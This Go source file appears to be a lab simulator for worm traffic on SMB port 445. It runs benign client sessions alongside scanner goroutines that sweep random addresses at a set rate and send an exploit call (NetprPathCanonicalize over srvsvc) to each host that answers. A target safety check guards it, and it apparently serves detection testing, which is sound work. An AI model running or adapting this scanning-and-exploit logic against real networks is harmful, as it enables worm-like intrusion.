package simulate

import (
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"

	"github.com/scan445/scan445/smbprobe/srvsvc"
)

// Defaults of Options.
const (
	DefaultRate           = 4.0 // connection attempts per second per scanner: "a few per second"
	DefaultClientInterval = 5 * time.Second
	DefaultTimeout        = 2 * time.Second
	// maxInFlight bounds one scanner's unanswered connects (the worm runs many threads, each
	// blocked on a SYN to an address that may never answer).
	maxInFlight = 256
)

// Options configure Run.
type Options struct {
	Scanners, Clients int
	// Sources: scanner i binds Sources[i], client j binds Sources[Scanners+j]; with fewer
	// addresses than hosts the rest let the kernel choose (they then share one source).
	Sources []netip.Addr
	Range   netip.Prefix     // the scanners' random targets
	First   []netip.Addr     // addresses each scanner attacks before its random sweep
	Servers []netip.AddrPort // client j uses Servers[j % len]
	Port    uint16           // the scanners' port (default 445)
	Rate    float64          // connection attempts per second per scanner (default 4)
	// ClientInterval: how often a client repeats its session (default 5 s).
	ClientInterval time.Duration
	Timeout        time.Duration // each connect and each reply (default 2 s)
	Seed           uint64
	Namespaces     *Namespaces // nil: CurrentNamespaces()
	OnEvent        func(Event) // called from many goroutines
}

// Event is one thing a simulated host did.
type Event struct {
	Time    time.Time
	Kind    string // "attempt" (a connect tried), "exploit", "client"
	Src     netip.Addr
	Dst     netip.AddrPort
	Outcome string // "connected", "refused/timeout: …", "WERROR 0x…", "dropped: …"
}

// Result counts what the simulated hosts did.
type Result struct {
	Attempts, Connected, Exploits int64 // scanners
	ClientSessions, ClientErrors  int64 // clients
}

type counters struct {
	attempts, connected, exploits, sessions, clientErrors atomic.Int64
}

// Run plays the hosts until ctx ends and returns the counts. It refuses (ErrUnsafeTarget)
// before sending anything if CheckTargets does.
func Run(ctx context.Context, o Options) (Result, error) {
	if o.Scanners < 0 || o.Clients < 0 || o.Scanners+o.Clients == 0 {
		return Result{}, errors.New("simulate: want at least one scanner or client")
	}
	if o.Scanners > 0 && !o.Range.IsValid() {
		return Result{}, errors.New("simulate: scanners need a range")
	}
	if o.Clients > 0 && len(o.Servers) == 0 {
		return Result{}, errors.New("simulate: clients need servers")
	}
	if o.Port == 0 {
		o.Port = 445
	}
	if o.Rate <= 0 {
		o.Rate = DefaultRate
	}
	if o.ClientInterval <= 0 {
		o.ClientInterval = DefaultClientInterval
	}
	if o.Timeout <= 0 {
		o.Timeout = DefaultTimeout
	}
	ns := CurrentNamespaces()
	if o.Namespaces != nil {
		ns = *o.Namespaces
	}
	ranges := []netip.Prefix{}
	if o.Scanners > 0 {
		ranges = append(ranges, o.Range)
	}
	for _, a := range o.First {
		ranges = append(ranges, netip.PrefixFrom(a, a.BitLen()))
	}
	if err := CheckTargets(ranges, o.Servers, ns); err != nil {
		return Result{}, err
	}
	if o.OnEvent == nil {
		o.OnEvent = func(Event) {}
	}
	var c counters
	var wg sync.WaitGroup
	for i := range o.Scanners {
		wg.Add(1)
		go func() { defer wg.Done(); scanner(ctx, o, i, &c) }()
	}
	for j := range o.Clients {
		wg.Add(1)
		go func() { defer wg.Done(); client(ctx, o, j, &c) }()
	}
	wg.Wait()
	return Result{Attempts: c.attempts.Load(), Connected: c.connected.Load(), Exploits: c.exploits.Load(),
		ClientSessions: c.sessions.Load(), ClientErrors: c.clientErrors.Load()}, nil
}

func source(o Options, i int) netip.Addr {
	if i < len(o.Sources) {
		return o.Sources[i]
	}
	return netip.Addr{}
}

// RandomAddr returns a uniformly random address of p (the worm does not skip network or
// broadcast addresses either).
func RandomAddr(r *rand.Rand, p netip.Prefix) netip.Addr {
	p = p.Masked()
	b := p.Addr().As4()
	host := uint32(0)
	if p.Bits() < 32 {
		host = r.Uint32() & (1<<(32-p.Bits()) - 1)
	}
	v := uint32(b[0])<<24 | uint32(b[1])<<16 | uint32(b[2])<<8 | uint32(b[3]) | host
	return netip.AddrFrom4([4]byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)})
}

// scanner i: paced connects to its First addresses, then random ones of the range; the
// exploit on each that answers.
func scanner(ctx context.Context, o Options, i int, c *counters) {
	src := source(o, i)
	r := newRand(o.Seed + uint64(i))
	tick := time.NewTicker(time.Duration(float64(time.Second) / o.Rate))
	defer tick.Stop()
	slots := make(chan struct{}, maxInFlight)
	var wg sync.WaitGroup
	defer wg.Wait()
	for n := 0; ; n++ {
		dst := RandomAddr(r, o.Range)
		if n < len(o.First) {
			dst = o.First[n]
		}
		select {
		case <-ctx.Done():
			return
		case slots <- struct{}{}:
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer func() { <-slots }()
			// An attempt under way finishes (bounded by Timeout per step) when ctx ends: a
			// SYN is either sent and its attempt counted, or neither.
			attack(context.WithoutCancel(ctx), o, src, netip.AddrPortFrom(dst, o.Port), c)
		}()
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
		}
	}
}

// attack is one connection attempt and, if it connects, the exploit.
func attack(ctx context.Context, o Options, src netip.Addr, dst netip.AddrPort, c *counters) {
	c.attempts.Add(1)
	conn, err := dial(ctx, src, dst, o.Timeout)
	if err != nil {
		o.OnEvent(Event{Time: time.Now(), Kind: "attempt", Src: src, Dst: dst, Outcome: "no connection: " + err.Error()})
		return
	}
	defer conn.Close()
	c.connected.Add(1)
	if !src.IsValid() {
		if ap, err := netip.ParseAddrPort(conn.LocalAddr().String()); err == nil {
			src = ap.Addr().Unmap()
		}
	}
	o.OnEvent(Event{Time: time.Now(), Kind: "attempt", Src: src, Dst: dst, Outcome: "connected"})
	outcome, err := exploit(conn, dst.Addr(), o.Timeout)
	if err != nil {
		outcome = "dropped: " + err.Error()
	}
	c.exploits.Add(1)
	o.OnEvent(Event{Time: time.Now(), Kind: "exploit", Src: src, Dst: dst, Outcome: outcome})
}

// exploit runs the worm's SMB sequence on a connected socket and returns how the
// NetprPathCanonicalize call ended. A setup step that fails ends it early.
func exploit(conn net.Conn, host netip.Addr, timeout time.Duration) (string, error) {
	s, err := openSession(conn, host, timeout)
	if err != nil {
		return "", err
	}
	if _, err := s.openPipe("browser", "srvsvc"); err != nil {
		return "", err
	}
	if err := s.bindSrvsvc(); err != nil {
		return "", err
	}
	return s.call(OpNetprPathCanonicalize, EncodeExploitStub(DefaultExploit()))
}

// client j: one session to its server, a NetrServerGetInfo, then again every interval.
func client(ctx context.Context, o Options, j int, c *counters) {
	src := source(o, o.Scanners+j)
	dst := o.Servers[j%len(o.Servers)]
	for {
		outcome, err := benign(ctx, src, dst, o.Timeout)
		if err != nil {
			c.clientErrors.Add(1)
			outcome = "failed: " + err.Error()
		} else {
			c.sessions.Add(1)
		}
		o.OnEvent(Event{Time: time.Now(), Kind: "client", Src: src, Dst: dst, Outcome: outcome})
		select {
		case <-ctx.Done():
			return
		case <-time.After(o.ClientInterval):
		}
	}
}

// benign is an ordinary client's session: null session, IPC$, srvsvc, NetrServerGetInfo 101.
func benign(ctx context.Context, src netip.Addr, dst netip.AddrPort, timeout time.Duration) (string, error) {
	conn, err := dial(ctx, src, dst, timeout)
	if err != nil {
		return "", err
	}
	defer conn.Close()
	s, err := openSession(conn, dst.Addr(), timeout)
	if err != nil {
		return "", err
	}
	if _, err := s.openPipe("browser", "srvsvc"); err != nil { // srvsvc bound through \browser, as XP SP2+ allows anonymously
		return "", err
	}
	if err := s.bindSrvsvc(); err != nil {
		return "", err
	}
	stub, err := srvsvc.ServerGetInfoRequest{ServerName: srvsvc.StringPtr(`\\` + dst.Addr().String()), Level: 101}.Encode()
	if err != nil {
		return "", fmt.Errorf("NetrServerGetInfo: %w", err)
	}
	return s.call(srvsvc.OpNetrServerGetInfo, stub)
}

// newRand is a scanner's generator: seeded, so a run can be repeated.
func newRand(seed uint64) *rand.Rand { return rand.New(rand.NewPCG(seed, 0x5ca4_4500)) }
